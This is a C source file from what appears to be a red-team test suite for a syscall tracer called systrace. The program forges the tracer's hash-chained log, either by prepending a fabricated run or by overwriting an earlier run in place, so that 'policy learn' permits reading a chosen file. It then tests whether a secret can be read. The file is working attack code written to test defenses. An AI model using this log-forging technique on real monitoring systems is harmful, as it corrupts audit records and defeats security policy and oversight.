/* log_shift.c: a made-up run written into the run's own log file, in front of the run's lines
 * (issue 11, red team 32; class 6, the tracer's own writes -- what systrace reads after a run).
 *
 * `systrace -A --log run.jsonl` ends its log with an `end` record carrying the SHA-256 of the
 * lines it wrote from its `start` on, and `policy learn` reads only lines a run vouches for
 * (red team 29); a log put at the name in the file's place is disowned at the run's end
 * (gap #42).  Neither looks at *where* in the file the run's lines are, nor at what comes
 * before them: the file may hold several runs, and nothing in a digest is secret.  So the
 * program, during the run, rewrites the file in place -- the same inode, the same name -- as
 * a made-up run of its own (a start, an observation of reading PATH, an end with the digest of
 * those two lines) followed by every byte the tracer had written: the tracer appends (O_APPEND)
 * after them, its end's digest still matches its lines, the name still leads to its file --
 * and `policy learn` learns both runs, the made-up one included.
 *
 *   log_shift prepend LOG PATH   rewrites LOG so; prints FORGED (the native control: the same
 *                                rewrite of a file of its own, which it then checks)
 *   log_shift earlier LOG PATH   LOG held an earlier run when this one began: rewrites that
 *                                run's lines, in place, as a made-up run of the same length
 *                                (nothing after it moves); prints FORGED
 *   log_shift read PATH          reads PATH: ESCAPED when it holds the secret, else BLOCKED
 */
#include "attack.h"

static int observation(char *line, size_t size, const char *path) {
    return snprintf(line, size,
                    "{\"v\":2,\"event\":\"syscall\",\"pid\":%d,\"program\":\"%s\","
                    "\"syscall\":\"openat\",\"args\":{\"path\":\"%s\",\"flags\":\"O_RDONLY\"},"
                    "\"action\":\"permit\",\"result\":\"permitted\",\"rule\":null,"
                    "\"table\":\"main\",\"reason\":\"learning\",\"learned\":true,"
                    "\"observation\":{\"syscall\":\"openat\",\"paths\":[[\"path\",\"%s\"]],"
                    "\"open_flags\":0}}\n",
                    getpid(), "/proc/self/exe", path, path);
}

/* sha256sum of n bytes: the hex digest into digest (65 bytes), via a file beside LOG */
static void digest_of(const char *log, const char *data, size_t n, char *digest) {
    char scratch[4200], command[8400];
    snprintf(scratch, sizeof scratch, "%s.part", log);
    FILE *f = fopen(scratch, "w");
    if (!f || fwrite(data, 1, n, f) != n || fclose(f) != 0)
        blocked("write %s: %s", scratch, ename(errno));
    snprintf(command, sizeof command, "sha256sum '%s'", scratch);
    FILE *sum = popen(command, "r");
    if (!sum || fscanf(sum, "%64s", digest) != 1)
        blocked("sha256sum %s failed", scratch);
    pclose(sum);
    /* every call made on the log below made once before, on a file of its own: a learning
     * run stops at the first call of each kind, and its record, appended at that stop,
     * would land between the read and the write (and be written over) */
    char byte;
    int warm = open(scratch, O_RDWR | O_CLOEXEC);
    if (warm < 0 || pread(warm, &byte, 1, 0) != 1 || pwrite(warm, &byte, 1, 0) != 1)
        blocked("warm %s: %s", scratch, ename(errno));
    close(warm);
    unlink(scratch);
}

static char made[1 << 16], old[1 << 22];

/* The log's bytes so far (its descriptor open O_RDWR): their count. */
static ssize_t slurp(int fd, const char *log) {
    ssize_t got = 0, r;
    while ((r = pread(fd, old + got, sizeof old - (size_t)got, got)) > 0)
        got += r;
    if (r < 0 || (size_t)got + sizeof made > sizeof old)
        blocked("read %s: %s", log, r < 0 ? ename(errno) : "too long");
    return got;
}

int main(int argc, char **argv) {
    if (argc == 4 && strcmp(argv[1], "earlier") == 0) {
        /* the log held an earlier run when this one began: that run's lines (up to its end
         * record) rewritten as a made-up run of the same length -- the start line padded
         * with spaces, which JSON ignores -- so nothing after them moves */
        int fd = open(argv[2], O_RDWR | O_CLOEXEC);
        if (fd < 0 && errno == EACCES && chmod(argv[2], 0600) == 0)  /* (its owner) */
            fd = open(argv[2], O_RDWR | O_CLOEXEC);
        if (fd < 0)
            blocked("open %s: %s", argv[2], ename(errno));
        char digest[80] = "";
        ssize_t got = slurp(fd, argv[2]);
        old[got] = 0;
        char *end = strstr(old, "\"event\":\"end\"");
        char *eol = end ? strchr(end, '\n') : NULL;
        if (!eol)
            blocked("%s holds no earlier run that ended", argv[2]);
        size_t length = (size_t)(eol + 1 - old);
        char obs[8192];
        int no = observation(obs, sizeof obs, argv[3]);
        /* the end line: its length is fixed (64 hex digits) */
        size_t end_len = strlen("{\"v\":2,\"event\":\"end\",\"digest\":\"\"}\n") + 64;
        const char *start = "{\"v\":2,\"event\":\"start\",\"argv\":[\"true\"],\"policy\":null,"
                            "\"mode\":\"learn\",\"tracer\":1}\n";
        size_t fixed = strlen(start) + (size_t)no + end_len;
        if (fixed > length || length - fixed > sizeof made / 2)
            blocked("the earlier run is %zu bytes: no room", length);
        size_t pad = length - fixed, n = 0;
        made[n++] = '{';
        memset(made + n, ' ', pad);
        n += pad;
        memcpy(made + n, start + 1, strlen(start) - 1);
        n += strlen(start) - 1;
        memcpy(made + n, obs, (size_t)no);
        n += (size_t)no;
        digest_of(argv[2], made, n, digest);
        n += (size_t)snprintf(made + n, sizeof made - n,
                              "{\"v\":2,\"event\":\"end\",\"digest\":\"%s\"}\n", digest);
        if (n != length)
            blocked("made %zu bytes for %zu", n, length);
        if (pwrite(fd, made, n, 0) != (ssize_t)n)
            blocked("pwrite %s: %s", argv[2], ename(errno));
        close(fd);
        note("rewrote the earlier run (%zu bytes) in place as a made-up one", n);
        printf("FORGED\n");
        return 0;
    }
    if (argc == 4 && strcmp(argv[1], "prepend") == 0) {
        /* the made-up run, its digest computed first (sha256sum: its fork and exec are
         * logged before the log is read below) */
        char digest[80] = "";
        int n = snprintf(made, sizeof made,
                         "{\"v\":2,\"event\":\"start\",\"argv\":[\"true\"],\"policy\":null,"
                         "\"mode\":\"learn\",\"tracer\":1}\n");
        n += observation(made + n, sizeof made - (size_t)n, argv[3]);
        digest_of(argv[2], made, (size_t)n, digest);
        n += snprintf(made + n, sizeof made - (size_t)n,
                      "{\"v\":2,\"event\":\"end\",\"digest\":\"%s\"}\n", digest);
        /* the log as the tracer wrote it so far, then the file rewritten in place: the
         * made-up run, then those bytes (read, pwrite: calls no learning stops at, so the
         * tracer writes nothing in between) */
        int fd = open(argv[2], O_RDWR | O_CLOEXEC);
        if (fd < 0)
            blocked("open %s: %s", argv[2], ename(errno));
        ssize_t got = slurp(fd, argv[2]);
        memmove(old + n, old, (size_t)got);
        memcpy(old, made, (size_t)n);
        if (pwrite(fd, old, (size_t)got + (size_t)n, 0) != got + n)
            blocked("pwrite %s: %s", argv[2], ename(errno));
        close(fd);
        note("put a made-up run of %d bytes in front of the %zd the log held", n, got);
        printf("FORGED\n");
        return 0;
    }
    if (argc == 3 && strcmp(argv[1], "read") == 0) {
        int fd = open(argv[2], O_RDONLY | O_CLOEXEC);
        if (fd < 0)
            blocked("open %s: %s", argv[2], ename(errno));
        if (is_secret_fd(fd))
            escaped("read the secret %s", argv[2]);
        blocked("%s is no secret", argv[2]);
    }
    usage("log_shift prepend|earlier LOG PATH | read PATH");
}
